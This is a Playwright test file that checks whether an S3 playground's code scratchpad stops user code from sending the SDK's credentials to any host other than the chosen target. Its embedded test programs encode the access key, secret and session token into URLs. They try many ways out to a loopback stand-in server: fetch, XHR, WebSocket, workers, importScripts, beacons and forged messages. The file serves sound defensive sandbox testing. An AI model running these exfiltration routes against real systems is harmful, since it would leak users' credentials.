/**
 * User code in the SDK scratchpad cannot reach a host other than the chosen target (issue 15, item 2), in
 * Chromium on the static build. A loopback "outside" server (its own port, not the target) records every
 * request and WebSocket upgrade. The program tries every way out, carrying the credentials it was given:
 * fetch (the SDK's forwarded one and, in a nested worker, the native one), XHR (async and sync), WebSocket,
 * EventSource, importScripts, dynamic import(), navigator.sendBeacon, image loads (fetch no-cors,
 * createImageBitmap), nested workers (by URL and from a blob), and posting a forged request message. The
 * server must receive nothing, while the program's own SDK calls to the in-page emulator still work. Then
 * the same with a real target: the project's Node server on another loopback port as the custom endpoint,
 * where the page's own policy would allow the outside server too (loopback), so only the page's check of
 * each forwarded request against the target stands between the code and the outside server.
 */
import { spawn, type ChildProcess } from 'node:child_process'
import { createServer, type IncomingMessage } from 'node:http'
import type { AddressInfo } from 'node:net'
import { expect, test, type Page } from '@playwright/test'
import { waitForPlayground } from './terminal'
import { panels, shot } from './panels'

const editorIn = (page: Page) => page.getByTestId('scratchpad').locator('.monaco-editor').first()

/** The program: each attempt is recorded as how it ended; the credentials ride along in every URL. */
const program = (outside: string) => `
const { ListBucketsCommand, CreateBucketCommand, PutObjectCommand } = require('@aws-sdk/client-s3')
const creds = await s3.config.credentials()
const secret = encodeURIComponent(creds.accessKeyId + ':' + creds.secretAccessKey + ':' + (creds.sessionToken || ''))
const OUT = '${outside}'
const tries = {}
const attempt = async (name, f) => {
  try {
    tries[name] = 'no error: ' + String(await Promise.race([f(), new Promise((r) => setTimeout(() => r('pending'), 1500))]))
  } catch (e) {
    tries[name] = 'failed: ' + String((e && e.message) || e).slice(0, 60)
  }
}
const event = (target, ok, bad) =>
  new Promise((resolve, reject) => { target[ok] = () => resolve(ok); target[bad] = () => reject(new Error(bad)) })
await attempt('fetch (forwarded)', () => fetch(OUT + '/fetch?' + secret).then((r) => r.status))
await attempt('fetch no-cors image', () => fetch(OUT + '/img.png?' + secret, { mode: 'no-cors' }).then((r) => r.type))
await attempt('createImageBitmap', async () => createImageBitmap(await fetch(OUT + '/bitmap.png?' + secret).then((r) => r.blob())))
await attempt('xhr async', () => { const x = new XMLHttpRequest(); x.open('GET', OUT + '/xhr?' + secret); const p = event(x, 'onload', 'onerror'); x.send(); return p })
await attempt('xhr sync', () => { const x = new XMLHttpRequest(); x.open('POST', OUT + '/xhr-sync', false); x.send(secret); return x.status })
await attempt('websocket', () => event(new WebSocket(OUT.replace('http', 'ws') + '/ws?' + secret), 'onopen', 'onerror'))
await attempt('eventsource', () => event(new EventSource(OUT + '/es?' + secret), 'onopen', 'onerror'))
await attempt('importScripts', () => importScripts(OUT + '/import.js?' + secret))
// Through new Function: the TypeScript emit (CommonJS) would turn a literal import() into require().
const dynamicImport = new Function('u', 'return import(u)')
await attempt('dynamic import', () => dynamicImport(OUT + '/module.js?' + secret))
await attempt('sendBeacon', () => (navigator.sendBeacon ? navigator.sendBeacon(OUT + '/beacon', secret) : 'not in a worker'))
await attempt('worker by URL', () => event(new Worker(OUT + '/worker.js?' + secret), 'onmessage', 'onerror'))
const nested = \`
  const OUT = '\${OUT}', secret = '\${secret}'
  const results = {}
  const tryIt = async (name, f) => { try { results[name] = 'no error: ' + String(await f()) } catch (e) { results[name] = 'failed: ' + String(e.message || e).slice(0, 60) } }
  ;(async () => {
    await tryIt('native fetch', () => fetch(OUT + '/nested-fetch?' + secret).then((r) => r.status))
    await tryIt('xhr sync', () => { const x = new XMLHttpRequest(); x.open('GET', OUT + '/nested-xhr?' + secret, false); x.send(); return x.status })
    await tryIt('importScripts', () => importScripts(OUT + '/nested-import.js?' + secret))
    await tryIt('websocket', () => new WebSocket(OUT.replace('http', 'ws') + '/nested-ws').readyState)
    await tryIt('dynamic import', () => import(OUT + '/nested-module.js?' + secret))
    postMessage(results)
  })()\`
await attempt('nested blob worker', () => {
  const w = new Worker(URL.createObjectURL(new Blob([nested], { type: 'text/javascript' })))
  return new Promise((resolve, reject) => { w.onmessage = (e) => resolve(JSON.stringify(e.data)); w.onerror = (e) => reject(new Error('error: ' + e.message)) })
})
await attempt('forged request message', () => { postMessage({ type: 'fetch', request: { id: 424242, url: OUT + '/forged?' + secret, method: 'GET', headers: [] } }); return 'posted' })
console.log('ATTEMPTS ' + JSON.stringify(tries))
await s3.send(new CreateBucketCommand({ Bucket: 'sandbox-legit' }))
await s3.send(new PutObjectCommand({ Bucket: 'sandbox-legit', Key: 'k', Body: 'fine' }))
const listed = await s3.send(new ListBucketsCommand({}))
console.log('LEGIT ' + listed.Buckets.map((b) => b.Name).join(','))
`

test('scratchpad code reaches the chosen target only: every way out to another host is shut', async ({
  page,
}, testInfo) => {
  test.setTimeout(120_000)
  const outside = await outsideServer()
  const { url, received } = outside
  try {
    await page.goto('/playground/')
    await waitForPlayground(page)
    await panels(page).getByRole('tab', { name: 'SDK scratchpad' }).click()
    await expect(editorIn(page)).toContainText('PutObjectCommand')
    await page.getByLabel('Language').selectOption('javascript')
    await page.getByLabel('Timeout (s)').fill('60')
    await editorIn(page).click()
    await page.keyboard.press('ControlOrMeta+A')
    await page.keyboard.press('Delete')
    await page.keyboard.insertText(program(url))
    await page.getByRole('button', { name: '▶ Run' }).click()
    const consolePane = page.getByTestId('scratchpad-console')
    await expect(consolePane).toContainText('Finished in', { timeout: 60_000 })
    await expect(consolePane).toContainText('LEGIT sandbox-legit')
    const text = (await consolePane.textContent()) ?? ''
    const attempts = JSON.parse(/ATTEMPTS (\{.*?\})(?=LEGIT|Finished|$)/s.exec(text)?.[1] ?? '{}') as Record<
      string,
      string
    >
    console.log('[sandbox] attempts', JSON.stringify(attempts, null, 1))
    testInfo.annotations.push({ type: 'attempts', description: JSON.stringify(attempts) })
    // Every way was tried (the program ran them all).
    expect(Object.keys(attempts)).toHaveLength(13)
    // The SDK's own requests reached the in-page emulator, and the inspector shows them.
    const inspector = page.getByRole('region', { name: 'Request inspector' })
    await expect(inspector.getByTestId('exchange').filter({ hasText: 'PutObject' }).first()).toBeVisible()
    // Time for anything still on its way to arrive.
    await page.waitForTimeout(1500)
    await shot(page, testInfo, 'sandbox-attempts')
    expect(received, 'requests that reached the outside server').toEqual([])
  } finally {
    await outside.close()
  }
})

/** The outside server: records every request and upgrade; answers like a script would, with CORS open. */
async function outsideServer() {
  const received: string[] = []
  const note = (kind: string) => (req: IncomingMessage) => received.push(`${kind} ${req.method} ${req.url}`)
  const server = createServer((req, res) => {
    note('request')(req)
    res.writeHead(200, { 'access-control-allow-origin': '*', 'content-type': 'text/javascript' }).end('postMessage(1)')
  })
  server.on('upgrade', (req, socket) => {
    note('upgrade')(req)
    socket.destroy()
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  return {
    received,
    url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
    close: () => new Promise((resolve) => server.close(resolve)),
  }
}

test('with a custom endpoint as the target: the SDK reaches it, another loopback port gets nothing', async ({
  page,
}) => {
  test.setTimeout(120_000)
  const port = Number(process.env.E2E_PORT ?? 3200) + 5
  const endpoint = `http://127.0.0.1:${port}`
  const target: ChildProcess = spawn('node_modules/.bin/tsx', ['scripts/emulator.mts', '--port', String(port)], {
    stdio: 'ignore',
  })
  const outside = await outsideServer()
  try {
    for (let i = 0; i < 150; i++) {
      if (
        await fetch(`${endpoint}/_playground/clock`).then(
          () => true,
          () => false,
        )
      )
        break
      await new Promise((r) => setTimeout(r, 200))
    }
    await page.goto('/playground/')
    await waitForPlayground(page)
    await page.getByRole('button', { name: 'Change target…' }).click()
    const form = page.getByTestId('target-form')
    await form.getByLabel('a custom S3-compatible endpoint').check()
    await form.getByLabel('Endpoint URL').fill(endpoint)
    await form.getByLabel('Sandbox bucket').fill('sandbox-custom')
    await form.getByLabel('Access key id').fill('AKIDSANDBOXTEST00001')
    await form.getByLabel('Secret access key').fill('sandbox-secret-never-leaves')
    await form.getByRole('button', { name: 'Use this target' }).click()
    await expect(page.getByTestId('target-badge')).toContainText(endpoint)
    await panels(page).getByRole('tab', { name: 'SDK scratchpad' }).click()
    await expect(editorIn(page)).toContainText('PutObjectCommand')
    await page.getByLabel('Language').selectOption('javascript')
    await editorIn(page).click()
    await page.keyboard.press('ControlOrMeta+A')
    await page.keyboard.press('Delete')
    await page.keyboard.insertText(`
const { CreateBucketCommand, PutObjectCommand, ListObjectsV2Command } = require('@aws-sdk/client-s3')
const creds = await s3.config.credentials()
const leak = encodeURIComponent(creds.accessKeyId + ':' + creds.secretAccessKey)
const outcomes = []
for (const tryIt of [
  () => fetch('${outside.url}/forwarded?' + leak),
  () => new Promise((resolve, reject) => { const x = new XMLHttpRequest(); x.open('GET', '${outside.url}/xhr?' + leak); x.onload = resolve; x.onerror = () => reject(new Error('xhr refused')); x.send() }),
]) {
  try { await tryIt(); outcomes.push('sent') } catch (e) { outcomes.push('refused') }
}
console.log('OUTCOMES ' + outcomes.join(','))
await s3.send(new CreateBucketCommand({ Bucket: 'sandbox-custom' }))
await s3.send(new PutObjectCommand({ Bucket: 'sandbox-custom', Key: 'from-scratchpad', Body: 'hello' }))
const listed = await s3.send(new ListObjectsV2Command({ Bucket: 'sandbox-custom' }))
console.log('LISTED ' + listed.Contents.map((o) => o.Key).join(','))
`)
    await page.getByRole('button', { name: '▶ Run' }).click()
    const consolePane = page.getByTestId('scratchpad-console')
    await expect(consolePane).toContainText('Finished in', { timeout: 60_000 })
    await expect(consolePane).toContainText(`Running on`)
    await expect(consolePane).toContainText('OUTCOMES refused,refused')
    await expect(consolePane).toContainText('LISTED from-scratchpad')
    // The object is on the target server itself, read back from Node.
    expect(await fetch(`${endpoint}/sandbox-custom/from-scratchpad`).then((r) => r.text())).toBe('hello')
    await page.waitForTimeout(1000)
    expect(outside.received, 'requests that reached the outside server').toEqual([])
  } finally {
    await outside.close()
    target.kill()
  }
})
